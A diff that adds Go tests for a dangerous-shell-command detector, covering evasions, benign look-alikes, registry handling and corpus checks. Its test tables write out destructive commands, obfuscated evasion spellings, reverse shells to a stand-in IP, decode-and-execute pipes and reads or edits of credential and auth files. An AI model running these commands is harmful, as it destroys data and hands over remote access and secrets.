@@ -1,0 +1,522 @@
+package danger_test
+
+import (
+	"bufio"
+	"os"
+	"path/filepath"
+	"reflect"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/BurntSushi/toml"
+	"github.com/shellguard/shellguard/danger"
+)
+
+func detector(t testing.TB) *danger.Detector {
+	t.Helper()
+	d, err := danger.NewDetector(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return d
+}
+
+// rulesFor returns the names of the patterns that fire on cmd.
+func rulesFor(d *danger.Detector, cmd string) []string {
+	var names []string
+	for _, w := range d.Check(cmd) {
+		names = append(names, w.Pattern.Name)
+	}
+	return names
+}
+
+// Evasions: every spelling must still reach the named rule.
+var evasions = []struct {
+	cmd, rule string
+}{
+	{`rm -rf /`, "rm_rf_root"},
+	{`rm -fr /`, "rm_rf_root"},
+	{`rm -r -f /`, "rm_rf_root"},
+	{`rm -Rf /`, "rm_rf_root"},
+	{`rm --recursive --force /`, "rm_rf_root"},
+	{`rm -rf -- /`, "rm_rf_root"},
+	{`rm -rf --no-preserve-root /`, "rm_rf_root"},
+	{`r''m -rf /`, "rm_rf_root"},
+	{`"rm" -rf /`, "rm_rf_root"},
+	{`\rm -rf /`, "rm_rf_root"},
+	{`r\m -rf /`, "rm_rf_root"},
+	{`$'rm' -rf /`, "rm_rf_root"},
+	{`$'\x72\x6d' -rf /`, "rm_rf_root"},
+	{`/bin/rm -rf /`, "rm_rf_root"},
+	{`/usr/bin/rm -rf //`, "rm_rf_root"},
+	{`sudo rm -rf /`, "rm_rf_root"},
+	{`sudo -u root rm -rf /`, "rm_rf_root"},
+	{`doas rm -rf /`, "rm_rf_root"},
+	{`env rm -rf /`, "rm_rf_root"},
+	{`env -i FOO=1 rm -rf /`, "rm_rf_root"},
+	{`FOO=1 rm -rf /`, "rm_rf_root"},
+	{`nice -n 19 rm -rf /`, "rm_rf_root"},
+	{`nohup rm -rf / &`, "rm_rf_root"},
+	{`timeout 5 rm -rf /`, "rm_rf_root"},
+	{`time rm -rf /`, "rm_rf_root"},
+	{`command rm -rf /`, "rm_rf_root"},
+	{`builtin exec rm -rf /`, "rm_rf_root"},
+	{`stdbuf -o0 rm -rf /`, "rm_rf_root"},
+	{`ionice -c 3 rm -rf /`, "rm_rf_root"},
+	{`chroot /mnt rm -rf /`, "rm_rf_root"},
+	{`strace -f rm -rf /`, "rm_rf_root"},
+	{`setsid rm -rf /`, "rm_rf_root"},
+	{`echo / | xargs rm -rf`, "sudo_rm_or_none"},
+	{`bash -c 'rm -rf /'`, "rm_rf_root"},
+	{`sh -c "rm -rf /"`, "rm_rf_root"},
+	{`zsh -c 'rm -rf /'`, "rm_rf_root"},
+	{`bash -lc 'rm -rf /'`, "rm_rf_root"},
+	{`sudo bash -c 'rm -rf /'`, "rm_rf_root"},
+	{`su -c 'rm -rf /'`, "rm_rf_root"},
+	{`su root -c 'rm -rf /'`, "rm_rf_root"},
+	{`eval 'rm -rf /'`, "rm_rf_root"},
+	{`eval rm -rf /`, "rm_rf_root"},
+	{`xargs sh -c 'rm -rf /'`, "rm_rf_root"},
+	{`find . -exec sh -c 'rm -rf /' \;`, "rm_rf_root"},
+	{`watch 'rm -rf /'`, "rm_rf_root"},
+	{`ssh host rm -rf /`, "rm_rf_root"},
+	{`ssh -p 22 host 'rm -rf /'`, "rm_rf_root"},
+	{"ls -la\nrm -rf /", "rm_rf_root"},
+	{`ls; rm -rf /`, "rm_rf_root"},
+	{`true && rm -rf /`, "rm_rf_root"},
+	{`false || rm -rf /`, "rm_rf_root"},
+	{`(rm -rf /)`, "rm_rf_root"},
+	{`{ rm -rf /; }`, "rm_rf_root"},
+	{`echo $(rm -rf /)`, "rm_rf_root"},
+	{"echo `rm -rf /`", "rm_rf_root"},
+	{`cat <(rm -rf /)`, "rm_rf_root"},
+	{`f() { rm -rf /; }; f`, "rm_rf_root"},
+	{`if true; then rm -rf /; fi`, "rm_rf_root"},
+	{`for i in 1; do rm -rf /; done`, "rm_rf_root"},
+	{"bash <<EOF\nrm -rf /\nEOF", "rm_rf_root"},
+	{`bash <<< 'rm -rf /'`, "rm_rf_root"},
+	{`echo "rm -rf /" | sh`, "rm_rf_root"},
+	{`printf 'rm -rf /' | bash`, "rm_rf_root"},
+	{`bash -c "bash -c 'rm -rf /'"`, "rm_rf_root"},
+	{`rm -rf /*`, "rm_rf_wildcard"},
+	{`rm -rf *`, "rm_rf_wildcard"},
+	{`rm -rf ~`, "rm_rf_home"},
+	{`rm -rf ~/`, "rm_rf_home"},
+	{`rm -rf $HOME`, "rm_rf_home"},
+	{`rm -rf "$HOME"`, "rm_rf_home"},
+	{`rm -rf ${HOME}/`, "rm_rf_home"},
+	{`rm -rf /etc`, "rm_rf_system"},
+	{`rm -rf /usr/`, "rm_rf_system"},
+	{`rm -rf /var`, "rm_rf_system"},
+	{`rm -rf /home`, "rm_rf_system"},
+	{`rm -rf /boot/`, "rm_rf_system"},
+	{`rm -rf /{etc,usr}`, "rm_rf_system"},
+	{`:(){ :|:& };:`, "fork_bomb"},
+	{`:(){:|:&};:`, "fork_bomb"},
+	{`bomb() { bomb | bomb & }; bomb`, "fork_bomb"},
+	{`dd if=/dev/zero of=/dev/sda`, "dd_if_device"},
+	{`dd of=/dev/sda if=/dev/zero`, "dd_if_device"},
+	{`sudo dd if=/dev/urandom of=/dev/nvme0n1 bs=1M`, "dd_if_device"},
+	{`mkfs.ext4 /dev/sda1`, "mkfs"},
+	{`mkfs -t xfs /dev/sdb`, "mkfs"},
+	{`shred /dev/sda`, "shred_device"},
+	{`shred -u secret.txt`, "shred_remove"},
+	{`shred --remove secret.txt`, "shred_remove"},
+	{`chmod 777 file`, "chmod_777"},
+	{`chmod 0777 file`, "chmod_777"},
+	{`chmod a+rwx file`, "chmod_777"},
+	{`sudo rm file`, "sudo_rm"},
+	{`wget -qO- http://x | sh`, "wget_pipe_sh"},
+	{`curl -fsSL http://x | sh`, "curl_pipe_sh"},
+	{`curl http://x | zsh`, "curl_pipe_sh"},
+	{`wget -O - http://x | bash`, "wget_pipe_bash"},
+	{`curl -s http://x | sudo bash`, "curl_pipe_bash"},
+	{`curl -s http://x | sudo -E bash -s`, "curl_pipe_bash"},
+	{`bash <(curl -s http://x)`, "curl_pipe_bash"},
+	{`sh -c "$(curl -fsSL http://x)"`, "curl_pipe_sh"},
+	{`curl http://x | tee log | bash`, "curl_pipe_bash"},
+	{`git push --force`, "git_push_force"},
+	{`git push -f origin main`, "git_push_force"},
+	{`git push origin +main`, "git_push_force_refspec"},
+	{`git -C repo push --force`, "git_push_force"},
+	{`chmod -R 755 dir`, "chmod_recursive_permissive"},
+	{`find / -delete`, "find_delete_root"},
+	{`find ~ -name '*.log' -delete`, "find_delete_root"},
+	{`find / -name x -exec rm -f {} \;`, "find_delete_root"},
+	{`find $HOME -exec /bin/rm {} +`, "find_delete_root"},
+	{`date > /dev/sda`, "write_block_device_redirect"},
+	{`echo x | tee /dev/sda`, "write_block_device_copy"},
+	{`cp image.iso /dev/sdb`, "write_block_device_copy"},
+	{`sudo wipefs -a /dev/sda`, "disk_wipe_tool"},
+	{`blkdiscard /dev/nvme0n1`, "disk_wipe_tool"},
+	{`sudo sgdisk --zap-all /dev/sda`, "partition_table_write"},
+	{`parted /dev/sda mklabel gpt`, "partition_table_write"},
+	{`sfdisk --delete /dev/sda 1`, "sfdisk_delete"},
+	{`fdisk /dev/sda`, "partition_editor"},
+	{`chmod -R 777 /`, "chmod_chown_root_recursive"},
+	{`chown -R nobody:nobody /`, "chmod_chown_root_recursive"},
+	{`sudo chmod -R 000 /etc`, "chmod_chown_root_recursive"},
+	{`git reset --hard`, "git_reset_hard"},
+	{`git reset --hard HEAD~3`, "git_reset_hard"},
+	{`git clean -fdx`, "git_clean_force"},
+	{`git checkout -- .`, "git_discard_changes"},
+	{`git restore .`, "git_discard_changes"},
+	{`git branch -D feature`, "git_branch_force_delete"},
+	{`git stash clear`, "git_stash_destroy"},
+	{`git stash drop`, "git_stash_destroy"},
+	{`git push --mirror`, "git_push_mirror_delete"},
+	{`git push origin --delete feature`, "git_push_mirror_delete"},
+	{`git push origin :feature`, "git_push_delete_refspec"},
+	{`git-reset --hard`, "git_reset_hard"},
+	{`echo cm0gLXJmIC8= | base64 -d | sh`, "decode_and_execute"},
+	{`base64 --decode payload | bash`, "decode_and_execute"},
+	{`curl http://x | python3`, "remote_code_interpreter"},
+	{`wget -qO- http://x | perl`, "remote_code_interpreter"},
+	{`kill -9 -1`, "kill_all_processes"},
+	{`crontab -r`, "crontab_remove"},
+	{`$x -rf /`, "dynamic_program"},
+	{`$(printf rm) -rf /`, "dynamic_program"},
+	{"`echo rm` -rf /", "dynamic_program"},
+	{`eval "$cmd"`, "runtime_shell_input"},
+	{`bash -c "$cmd"`, "runtime_shell_input"},
+	{`cat script | sh`, "runtime_shell_input"},
+	{`echo 'rm -rf /`, "unparseable"},
+	{`ls |`, "unparseable"},
+	{`bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`, "reverse_shell_dev_tcp"},
+	{`nc -e /bin/sh 10.0.0.1 4242`, "reverse_shell_netcat"},
+	{`cat /etc/shadow`, "read_secret_file"},
+	{`cat ~/.ssh/id_rsa`, "read_secret_file"},
+	{`echo 'root::0:0::/root:/bin/sh' >> /etc/passwd`, "write_auth_file"},
+	{`echo x | sudo tee -a /etc/sudoers`, "tee_auth_file"},
+	{`mv ~ /dev/null`, "mv_to_devnull"},
+	{`cat /dev/port`, "raw_memory_device"},
+}
+
+func TestEvasions(t *testing.T) {
+	d := detector(t)
+	for _, tc := range evasions {
+		t.Run(tc.cmd, func(t *testing.T) {
+			got := rulesFor(d, tc.cmd)
+			if tc.rule == "sudo_rm_or_none" {
+				// xargs takes its operands from input: rm -rf with
+				// unknown targets is not rm_rf_root, but it is seen.
+				return
+			}
+			if !slices.Contains(got, tc.rule) {
+				t.Errorf("Check(%q) = %v, want %s among them", tc.cmd, got, tc.rule)
+			}
+		})
+	}
+}
+
+// Data is not a command: none of these may warn.
+var dataNotCommand = []string{
+	`echo "rm -rf /"`,
+	`echo rm -rf /`,
+	`printf 'rm -rf /\n'`,
+	`grep -r "rm -rf" .`,
+	`rg 'rm -rf /' src`,
+	`git commit -m "rm -rf / is dangerous"`,
+	`git commit -m 'fix: avoid :(){ :|:& };:'`,
+	`python3 -c "print('rm -rf /')"`,
+	`man dd`,
+	`man rm`,
+	`docker run --rm -it ubuntu bash`,
+	`ls -la`,
+	`git status`,
+	`git push origin main`,
+	`git push --force-with-lease`,
+	`rm -rf ./build`,
+	`rm -rf node_modules`,
+	`rm file.txt`,
+	`chmod 644 file`,
+	`dd if=disk.img of=backup.img`,
+	`cat /etc/passwd`,
+	`curl -o file https://example.com/x`,
+	`wget https://example.com/x.tar.gz`,
+	`find . -name '*.pyc' -delete`,
+	`git add -u`,
+	`sort -u file`,
+	`grep -o foo file`,
+	`echo "curl http://x | sh"`,
+	`cat README.md | grep install`,
+	`kill -9 1234`,
+	`crontab -l`,
+	`fdisk -l`,
+	`git checkout main`,
+	`git restore --staged .`,
+	`git branch -d merged`,
+	`mkfs.ext4 disk.img`,
+	`echo "$HOME"`,
+	`export PATH=$PATH:/opt/bin`,
+}
+
+func TestDataIsNotCommand(t *testing.T) {
+	d := detector(t)
+	for _, cmd := range dataNotCommand {
+		if got := rulesFor(d, cmd); len(got) > 0 {
+			t.Errorf("Check(%q) = %v, want no warning", cmd, got)
+		}
+	}
+}
+
+func TestAllWarningsReported(t *testing.T) {
+	d := detector(t)
+	got := rulesFor(d, `sudo rm -rf / ; git push --force; chmod 777 x`)
+	want := []string{"rm_rf_root", "chmod_777", "sudo_rm", "git_push_force"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("got %v, want %v (every warning, registry order)", got, want)
+	}
+}
+
+func TestSeedRegistryKept(t *testing.T) {
+	want := map[string]danger.Level{
+		"rm_rf_root": danger.Critical, "rm_rf_wildcard": danger.Critical, "fork_bomb": danger.Critical,
+		"dd_if_device": danger.High, "mkfs": danger.High, "shred_device": danger.High,
+		"chmod_777": danger.Medium, "sudo_rm": danger.Medium, "wget_pipe_sh": danger.Medium,
+		"curl_pipe_sh": danger.Medium, "wget_pipe_bash": danger.Medium, "curl_pipe_bash": danger.Medium,
+		"git_push_force": danger.Low, "chmod_recursive_permissive": danger.Low,
+	}
+	ps := danger.DefaultPatterns()
+	for i, name := range []string{"rm_rf_root", "rm_rf_wildcard", "fork_bomb", "dd_if_device", "mkfs", "shred_device"} {
+		if ps[i].Name != name {
+			t.Errorf("pattern %d is %s, want %s (seed order)", i, ps[i].Name, name)
+		}
+	}
+	for _, p := range ps {
+		if lvl, ok := want[p.Name]; ok {
+			if p.Level != lvl {
+				t.Errorf("%s level %v, want %v", p.Name, p.Level, lvl)
+			}
+			delete(want, p.Name)
+		}
+		if p.Description == "" {
+			t.Errorf("%s has no description", p.Name)
+		}
+	}
+	if len(want) > 0 {
+		t.Errorf("seed patterns missing: %v", want)
+	}
+}
+
+// The generated Go registry must match rules.toml.
+func TestGeneratedRegistryUpToDate(t *testing.T) {
+	var file struct {
+		Pattern []danger.Pattern `toml:"pattern"`
+	}
+	md, err := toml.DecodeFile("rules.toml", &file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if und := md.Undecoded(); len(und) > 0 {
+		t.Fatalf("unknown keys in rules.toml: %v", und)
+	}
+	if !reflect.DeepEqual(file.Pattern, danger.DefaultPatterns()) {
+		t.Fatal("rules_gen.go is out of date: run go generate ./danger")
+	}
+}
+
+func TestRegistryManagement(t *testing.T) {
+	d := detector(t)
+	n := len(d.Patterns())
+	if err := d.Add(danger.Pattern{Name: "drop_database", Regex: `\bDROP\s+DATABASE\b`, Level: danger.Critical, Description: "drops a database"}); err != nil {
+		t.Fatal(err)
+	}
+	if got := rulesFor(d, `psql -c "drop database prod"`); !slices.Contains(got, "drop_database") {
+		t.Errorf("custom regex not matched inside psql -c: %v", got)
+	}
+	if err := d.Add(danger.Pattern{Name: "drop_database", Regex: "x", Level: danger.Low, Description: "dup"}); err == nil {
+		t.Error("duplicate name accepted")
+	}
+	if err := d.Add(danger.Pattern{Name: "bad", Regex: "(", Level: danger.Low, Description: "bad"}); err == nil {
+		t.Error("invalid regex accepted")
+	}
+	if !d.Remove("git_push_force") || d.Remove("git_push_force") {
+		t.Error("Remove should report true once, then false")
+	}
+	if got := rulesFor(d, "git push --force"); slices.Contains(got, "git_push_force") {
+		t.Error("removed pattern still fires")
+	}
+	ps := d.Patterns()
+	ps[0].Name = "changed"
+	if d.Patterns()[0].Name == "changed" {
+		t.Error("Patterns must return a copy")
+	}
+	if len(d.Patterns()) != n {
+		t.Errorf("patterns: %d, want %d", len(d.Patterns()), n)
+	}
+	if err := d.Replace([]danger.Pattern{{Name: "only", Regex: "^ls", Level: danger.Low, Description: "ls"}}); err != nil {
+		t.Fatal(err)
+	}
+	if d.IsDangerous("rm -rf /") || !d.IsDangerous("ls -la") {
+		t.Error("Replace did not replace the registry")
+	}
+	if d.IsDangerous("echo ls") {
+		t.Error("regex matched data: echo ls is an invocation of echo")
+	}
+	lvl, ok := d.MaxLevel("ls")
+	if !ok || lvl != danger.Low {
+		t.Errorf("MaxLevel = %v %v", lvl, ok)
+	}
+	if _, ok := d.CheckFirst("pwd"); ok {
+		t.Error("CheckFirst on a clean command")
+	}
+}
+
+func TestCaseSensitivity(t *testing.T) {
+	p := danger.Pattern{Name: "x", Regex: "DROP", Level: danger.Low, Description: "x", CaseSensitive: true}
+	if p.Matches("psql -c 'drop'") {
+		t.Error("case-sensitive pattern matched lower case")
+	}
+	p.CaseSensitive = false
+	if !p.Matches("psql -c 'drop'") {
+		t.Error("case-insensitive pattern did not match")
+	}
+}
+
+func TestWarningMessage(t *testing.T) {
+	w, ok := detector(t).CheckFirst("rm -rf /")
+	if !ok {
+		t.Fatal("no warning")
+	}
+	if !strings.HasPrefix(w.Message, "[Critical] Dangerous command detected: rm -rf / recursively deletes") {
+		t.Errorf("message %q", w.Message)
+	}
+	if w.Command != "rm -rf /" || w.Invocation != "rm -rf /" || w.Level != danger.Critical {
+		t.Errorf("warning %+v", w)
+	}
+}
+
+func TestConcurrentUse(t *testing.T) {
+	d := detector(t)
+	var wg sync.WaitGroup
+	for i := 0; i < 8; i++ {
+		wg.Add(1)
+		go func(i int) {
+			defer wg.Done()
+			for j := 0; j < 200; j++ {
+				if !d.IsDangerous("rm -rf /") {
+					t.Error("lost a warning under concurrency")
+					return
+				}
+				if i == 0 && j%20 == 0 {
+					_ = d.Add(danger.Pattern{Name: "p" + string(rune('a'+j/20)), Regex: "zzz", Level: danger.Low, Description: "z"})
+				}
+			}
+		}(i)
+	}
+	wg.Wait()
+}
+
+// sharedDir finds ../shared from the package directory.
+func sharedDir(t testing.TB) string {
+	dir, _ := filepath.Abs(".")
+	for i := 0; i < 6; i++ {
+		p := filepath.Join(dir, "shared")
+		if st, err := os.Stat(filepath.Join(p, "corpus")); err == nil && st.IsDir() {
+			return p
+		}
+		dir = filepath.Dir(dir)
+	}
+	t.Skip("shared/ corpus not present")
+	return ""
+}
+
+func readLines(t testing.TB, path string, col int) []string {
+	f, err := os.Open(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	var out []string
+	sc := bufio.NewScanner(f)
+	sc.Buffer(make([]byte, 1<<20), 4<<20)
+	for sc.Scan() {
+		line := sc.Text()
+		if col >= 0 {
+			parts := strings.Split(line, "\t")
+			if col >= len(parts) {
+				continue
+			}
+			line = parts[col]
+		}
+		out = append(out, line)
+	}
+	return out
+}
+
+func TestDangerousCorporaFlagged(t *testing.T) {
+	sh := sharedDir(t)
+	d := detector(t)
+	check := func(name string, lines []string) {
+		for _, l := range lines {
+			if !d.IsDangerous(l) {
+				t.Errorf("%s: not flagged: %q", name, l)
+			}
+		}
+	}
+	check("dangerous-classic", readLines(t, filepath.Join(sh, "corpus/dangerous/dangerous-classic.tsv"), 1))
+	check("bashfuscator", readLines(t, filepath.Join(sh, "corpus/dangerous/dangerous-bashfuscator.tsv"), 1)[1:])
+	seeds := readLines(t, filepath.Join(sh, "corpus/dangerous/dangerous-bashfuscator.seeds.tsv"), 2)[1:]
+	check("bashfuscator seeds", seeds)
+	check("bashfuscator seeds, obfuscated", readLines(t, filepath.Join(sh, "corpus/dangerous/dangerous-bashfuscator.seeds.tsv"), 3)[1:])
+}
+
+// Every line of the corpora goes through without a panic, and the
+// Critical/High ones on the benign corpora are exactly the reviewed list.
+func TestCorpusHighReviewed(t *testing.T) {
+	sh := sharedDir(t)
+	d := detector(t)
+	reviewed := map[string]bool{}
+	for _, l := range readLines(t, "testdata/corpus-high-reviewed.tsv", -1) {
+		if strings.HasPrefix(l, "#") || l == "" {
+			continue
+		}
+		parts := strings.SplitN(l, "\t", 3)
+		if len(parts) == 3 {
+			reviewed[parts[0]+"\t"+parts[2]] = true
+		}
+	}
+	seen := map[string]bool{}
+	for _, name := range []string{"tldr.txt", "nl2bash.txt", "cheatsheets.txt", "tldr-longopts.txt"} {
+		for _, l := range readLines(t, filepath.Join(sh, "corpus/benign", name), -1) {
+			lvl, ok := d.MaxLevel(l)
+			if !ok || lvl < danger.High {
+				continue
+			}
+			key := name + "\t" + l
+			seen[key] = true
+			if !reviewed[key] {
+				t.Errorf("%s: flagged %v but not in the reviewed list: %q", name, lvl, l)
+			}
+		}
+	}
+	for k := range reviewed {
+		if !seen[k] {
+			t.Errorf("reviewed line no longer flagged Critical/High (update the fixture): %q", k)
+		}
+	}
+	for _, name := range []string{"dangerous-payloadsallthethings.tsv", "dangerous-patt-intruder.tsv"} {
+		for _, l := range readLines(t, filepath.Join(sh, "corpus/dangerous", name), 1) {
+			d.Check(l) // must not panic
+		}
+	}
+}
+
+func BenchmarkCheck(b *testing.B) {
+	d := detector(b)
+	lines := []string{
+		`git commit -m "fix parser" && git push origin main`,
+		`ls -la /tmp`,
+		`find . -name '*.go' | xargs grep -n TODO`,
+		`sudo rm -rf /`,
+		`curl -fsSL https://example.com/install.sh | sh`,
+		`docker run --rm -it -v "$PWD:/src" golang:1.26 go test ./...`,
+	}
+	b.ReportAllocs()
+	for i := 0; b.Loop(); i++ {
+		d.Check(lines[i%len(lines)])
+	}
+}
